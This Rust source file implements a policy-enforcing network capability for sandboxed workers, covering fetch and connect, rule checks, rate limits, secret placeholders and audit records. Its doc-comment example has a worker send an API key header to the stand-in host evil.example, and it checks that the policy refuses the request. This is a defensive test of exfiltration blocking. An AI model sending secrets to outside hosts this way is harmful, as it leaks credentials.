//! The capability through which workers send requests.

use std::fmt;
use std::net::SocketAddr;
use std::sync::Arc;

use http::{Request, StatusCode};
use hyper_util::client::legacy::connect::{CaptureConnection, HttpInfo, capture_connection};
use isolet_wire::Value;
use tokio::time::{Instant, sleep_until, timeout};
use url::Host;

use super::audit::{NetworkAudit, NetworkOutcome, Recording};
use super::body::{self, Limit, Sent};
use super::client::{Clients, failure};
use super::connect::{Resolver, SystemResolver};
use super::error::NetworkError;
use super::meter::{Exceeded, Slot};
use super::policy::NetworkPolicy;
use super::request::{self, Given, Signal};
use super::response::{self, Responded};
use super::rules::{ActiveRule, Rules};
use super::secrets::{Secrets, Used};
use super::tcp::{self, NoConnection, Opened, Wanted};
use super::upgrade::{Handshake, Switched};
use crate::error::thrown::Thrown;
use crate::rpc::capability::private::{Arguments, no_method};
use crate::rpc::capability::{Answer, Capability};

/// Sends requests of workers to the outside, within a [`NetworkPolicy`].
///
/// It is a [`Capability`] with the methods `fetch`, also for `WebSocket`s, and `connect`. As the target of a worker's own `fetch` it is
/// handed to [`WorkerCode::outbound`](crate::WorkerCode::outbound), and under a name to
/// [`WorkerCode::env`](crate::WorkerCode::env). Workers that a worker loads get nothing of it.
///
/// ```
/// use isolet::{Engine, Network, NetworkPolicy, NetworkRecord, Rule, Secret, Stub, WorkerCode};
/// use std::sync::Arc;
///
/// # #[tokio::main(flavor = "current_thread")]
/// # async fn main() -> Result<(), Box<dyn std::error::Error>> {
/// let api = "api.example.com".parse::<isolet::Destination>()?;
/// let policy = NetworkPolicy::new()
///     .rule(Rule::new(api.clone()).methods(["GET"]).paths(["/v1"]))
///     .secret(Secret::new("API_KEY", "a secret of the host", api));
/// let network = Network::new(policy)?
///     .label("tenant 7")
///     .audit(|record: &NetworkRecord| println!("{record:?}"));
/// let code = network.placeholders().fold(
///     WorkerCode::module(
///         "agent.js",
///         "export default { go: (url, env) => fetch(url, { headers: { 'x-key': env.API_KEY } })
///             .then(() => 'sent', (error) => error.message) }",
///     ),
///     |code, (name, placeholder)| code.env_value(name, placeholder),
/// );
/// let worker = Engine::new()?.loader().load(code.outbound(Stub::new(network)))?;
/// let said: String = worker.entrypoint().call("go", ("https://evil.example/",)).await?;
/// assert!(said.contains("no rule of the network policy names https://evil.example"));
/// # Ok(())
/// # }
/// ```
///
/// # Cost and lifetime
///
/// A network has a connection pool of its own: at most 256 connections, 4 idle ones to an
/// origin, which stay for 15 s. Make one for each tenant; what they share is nothing. A request
/// keeps at most about 400 KiB of its response in the host, and up to 16 MiB more while a brotli
/// body is decompressed. Connections run on the tokio runtime of the request that made them. It
/// needs the time and I/O drivers of the runtime.
///
/// # Errors in JavaScript
///
/// A request that is refused or fails is a `TypeError` that says why, without addresses.
///
/// It does not do caching, cookies or proxies, and
/// ignores the environment's proxy variables. The name and the port of a destination are visible
/// to the network, as with any client.
///
/// It requires the crate's feature `net`.
pub struct Network {
    policy: NetworkPolicy,
    rules: Arc<Rules>,
    secrets: Secrets,
    clients: Clients,
    label: String,
    audit: Option<Arc<dyn NetworkAudit>>,
}

/// Why a request has no response.
struct Problem {
    outcome: NetworkOutcome,
    /// The text for the worker.
    text: String,
    /// More for the record, which the worker must not know.
    detail: &'static str,
}

impl Problem {
    fn refused(text: String) -> Self {
        Self { outcome: NetworkOutcome::Refused, text, detail: "" }
    }

    fn failed(text: String) -> Self {
        Self { outcome: NetworkOutcome::Failed, text, detail: "" }
    }
}

impl Problem {
    /// Tells the record, and returns the error for the worker.
    fn tell(self, what: &str, recording: &mut Recording) -> Thrown {
        let Self { outcome, text, detail } = self;
        let reason = match detail {
            "" => text.clone(),
            detail => format!("{text}: {detail}"),
        };
        recording.tell(outcome, Some(reason));
        match outcome {
            NetworkOutcome::Cancelled => Thrown::dom_exception("AbortError", text),
            NetworkOutcome::Refused => Thrown::type_error(format!("{what} is not allowed: {text}")),
            _ => Thrown::type_error(format!("{what} failed: {text}")),
        }
    }
}

/// The answer of a server.
enum Reply<'a> {
    Response(Responded<'a>),
    /// The connection is a WebSocket from now on.
    Switched(Switched<'a>),
}

impl Network {
    /// Creates a network.
    ///
    /// # Errors
    /// Errors if a rule, a secret or a certificate of the policy cannot be used.
    pub fn new(mut policy: NetworkPolicy) -> Result<Self, NetworkError> {
        let rules = Arc::new(Rules::new(&policy)?);
        let secrets = Secrets::new(std::mem::take(&mut policy.secrets))?;
        let clients = Clients::new(&policy, &rules, Arc::new(SystemResolver))?;
        Ok(Self { policy, rules, secrets, clients, label: String::new(), audit: None })
    }

    /// Sets the label of its records, such as a tenant's name. Default: empty.
    #[must_use]
    pub fn label(mut self, label: impl Into<String>) -> Self {
        self.label = label.into();
        self
    }

    /// Sets what receives the record of each request. Default: nothing. With the feature
    /// `tracing`, each record is also an event with the target `isolet::net`.
    #[must_use]
    pub fn audit(mut self, audit: impl NetworkAudit) -> Self {
        self.audit = Some(Arc::new(audit));
        self
    }

    /// Sets what finds the addresses of names. Default: the resolver of the operating system.
    ///
    /// The addresses that it returns are checked like any other.
    #[must_use]
    pub fn resolver(mut self, resolver: impl Resolver) -> Self {
        self.clients = self.clients.with_resolver(Arc::new(resolver));
        self
    }

    /// Returns the name and the placeholder of each secret. A worker usually gets them in `env`.
    pub fn placeholders(&self) -> impl Iterator<Item = (&str, &str)> {
        self.secrets.names()
    }

    async fn fetch(&self, arguments: Value) -> Result<Value, Thrown> {
        let given: Given = Arguments::new("fetch", &arguments)?.next("request")?;
        // The body was copied, and the sandbox pays for one copy until the head has arrived.
        drop(arguments);
        let url = given.shown_url();
        let mut recording = Recording::new(self.audit.clone(), &self.label);
        let problem = match self.respond(given, &mut recording).await {
            Ok(Reply::Response(response)) => return response.answer(&self.secrets, recording),
            Ok(Reply::Switched(response)) => {
                return response.answer(&self.secrets, recording).await;
            }
            Err(problem) => problem,
        };
        Err(problem.tell(&format!("fetch(\"{url}\")"), &mut recording))
    }

    /// Sends a request and returns the head of its response.
    async fn respond(&self, given: Given, recording: &mut Recording) -> Result<Reply<'_>, Problem> {
        let method = given.method().map_err(Problem::refused)?;
        recording.record.method = method.to_string();
        let url = given.url().map_err(Problem::refused)?;
        recording.record.url = request::without_query(&url);
        let rule = self.rules.admit(&method, &url).map_err(Problem::refused)?;
        recording.record.rule = Some(rule.name.clone());

        let mut used = Used::default();
        let headers = given.headers(&url, &self.secrets, &mut used);
        let uri = request::uri(&url, &self.secrets, &mut used);
        let is_upgrade = given.is_upgrade();
        let has_body = given.body.is_some() || is_upgrade;
        let replaced = has_body.then(|| self.secrets.body(&url)).flatten();
        used.sent.extend(replaced.iter().flat_map(|(_, names)| names.iter().cloned()));
        recording.record.withheld = used.withheld.iter().cloned().collect();
        let mut headers = headers.map_err(Problem::refused)?;
        let handshake = if is_upgrade { Some(Handshake::new(&mut headers)) } else { None };
        let handshake = handshake.transpose().map_err(Problem::failed)?;
        let uri = uri.map_err(Problem::refused)?;

        let slot = self.enter(rule).await?;
        let limit = Limit { rule: &rule.name, key: "request_bytes", bytes: rule.request_bytes() };
        let replacements = replaced.as_ref().map(|(replacements, _)| replacements);
        let body = body::sending(given.body, replacements, &limit, &recording.sent)
            .map_err(Problem::refused)?;
        let mut request = Request::new(body);
        *request.method_mut() = method.clone();
        *request.uri_mut() = uri;
        *request.headers_mut() = headers;
        recording.record.secrets = used.sent.into_iter().collect();

        let connection = capture_connection(&mut request);
        let response = if is_upgrade {
            self.clients.upgrading().request(request)
        } else {
            self.clients.get().request(request)
        };
        let sent = Arc::clone(&recording.sent);
        let response = tokio::select! {
            biased;
            response = response => Ok(response),
            () = aborted(given.signal) => Err(Problem {
                outcome: NetworkOutcome::Cancelled,
                text: "The operation was aborted.".to_owned(),
                detail: "",
            }),
            () = self.silent(&sent) => Err(Problem::failed(format!(
                "the head of the response did not arrive within {} ms",
                self.policy.response_timeout.as_millis(),
            ))),
        };
        recording.record.address = address(&connection);
        let response = response?.map_err(|error| {
            let failure = failure(&error, &self.secrets);
            let Some((refused, kind)) = failure.refused else {
                return Problem::failed(sent.failure().map_or(failure.text, str::to_owned));
            };
            let port = url.port_or_known_default().unwrap_or(0);
            recording.record.address = Some(SocketAddr::new(refused, port));
            recording.record.secrets.clear();
            Problem { detail: kind, ..Problem::refused(failure.text) }
        })?;
        if let Some(handshake) = handshake
            && response.status() == StatusCode::SWITCHING_PROTOCOLS
        {
            recording.record.status = Some(response.status().as_u16());
            handshake.check(response.headers()).map_err(Problem::failed)?;
            let replacements = replaced.map(|(replacements, _)| replacements);
            return Ok(Reply::Switched(Switched { rule, response, replacements, slot }));
        }
        let (head, body) = response.into_parts();
        recording.record.status = Some(head.status.as_u16());
        let coding = response::check(&head, &self.secrets).map_err(Problem::failed)?;
        Ok(Reply::Response(Responded { rule, method, head, body, coding, slot }))
    }

    /// Implements `connect()`.
    async fn connect(&self, arguments: Value) -> Result<Value, Thrown> {
        let wanted: Wanted = Arguments::new("connect", &arguments)?.next("address")?;
        let mut recording = Recording::new(self.audit.clone(), &self.label);
        "CONNECT".clone_into(&mut recording.record.method);
        match self.open(&wanted, &mut recording).await {
            Ok((rule, slot, opened)) => {
                opened.answer(rule, wanted.secure_transport, recording, slot)
            }
            Err(problem) => Err(problem.tell("connect()", &mut recording)),
        }
    }

    async fn open(
        &self,
        wanted: &Wanted,
        recording: &mut Recording,
    ) -> Result<(&ActiveRule, Slot, Opened), Problem> {
        let (host, port) = wanted.destination().map_err(Problem::refused)?;
        recording.record.url = format!("tcp://{host}:{port}");
        let borrowed = match &host {
            Host::Domain(name) => Host::Domain(name.as_str()),
            Host::Ipv4(address) => Host::Ipv4(*address),
            Host::Ipv6(address) => Host::Ipv6(*address),
        };
        let rule = self.rules.admit_tcp(&borrowed, port).map_err(Problem::refused)?;
        recording.record.rule = Some(rule.name.clone());
        let slot = self.enter(rule).await?;
        match tcp::open(self.clients.tcp(), &host, port, wanted.secure_transport).await {
            Ok((opened, address)) => {
                recording.record.address = address;
                Ok((rule, slot, opened))
            }
            Err(NoConnection { text, refused: Some((address, detail)) }) => {
                recording.record.address = Some(SocketAddr::new(address, port));
                Err(Problem { detail, ..Problem::refused(text) })
            }
            Err(NoConnection { text, refused: None }) => Err(Problem::failed(text)),
        }
    }

    /// Waits until the rule has room for a request.
    async fn enter(&self, rule: &ActiveRule) -> Result<Slot, Problem> {
        let wait = self.policy.response_timeout;
        let name = &rule.name;
        match timeout(wait, rule.meter.enter()).await {
            Ok(Ok(slot)) => Ok(slot),
            Ok(Err(Exceeded::Rate)) => {
                let (requests, seconds) =
                    rule.rate().map_or((0, 0), |rate| (rate.requests, rate.seconds));
                Err(Problem::refused(format!(
                    "the limit of {requests} requests in {seconds} s is exceeded (rate of the rule \
                     {name:?} of the network policy)"
                )))
            }
            Ok(Err(Exceeded::Concurrency)) => Err(Problem::refused(format!(
                "the limits of {} requests at a time and {} that wait are exceeded (concurrency and \
                 queue of the rule {name:?} of the network policy)",
                rule.concurrency(),
                rule.queue(),
            ))),
            Err(_) => Err(Problem::refused(format!(
                "{} other requests are under way, and none ended within {} ms (concurrency of the \
                 rule {name:?} of the network policy; read or cancel the bodies of responses)",
                rule.concurrency(),
                wait.as_millis(),
            ))),
        }
    }

    /// Waits until nothing was sent for the longest time that is allowed.
    async fn silent(&self, sent: &Sent) {
        let began = Instant::now();
        loop {
            let until = sent.last().unwrap_or(began).max(began) + self.policy.response_timeout;
            if until <= Instant::now() {
                return;
            }
            sleep_until(until).await;
        }
    }
}

/// Returns the address of a connection, if there is one.
fn address(connection: &CaptureConnection) -> Option<SocketAddr> {
    let mut extensions = http::Extensions::new();
    connection.connection_metadata().as_ref()?.get_extras(&mut extensions);
    extensions.get::<HttpInfo>().map(HttpInfo::remote_addr)
}

/// Waits until a signal is aborted.
async fn aborted(signal: Option<Signal>) {
    match signal {
        None => std::future::pending().await,
        Some(Signal { source: None }) => {}
        Some(Signal { source: Some(source) }) => {
            // An error means that the holder of the signal is gone, and not that it was aborted.
            if source.call::<Value>("aborted", ()).await.is_err() {
                std::future::pending::<()>().await;
            }
        }
    }
}

impl Capability for Network {
    fn call(self: Arc<Self>, method: &str, arguments: Value) -> Answer {
        match method {
            "fetch" => Box::pin(async move { self.fetch(arguments).await }),
            "connect" => Box::pin(async move { self.connect(arguments).await }),
            method => no_method(method),
        }
    }
}

impl fmt::Debug for Network {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Network")
            .field("label", &self.label)
            .field("rules", &self.rules)
            .field("secrets", &self.secrets)
            .finish_non_exhaustive()
    }
}
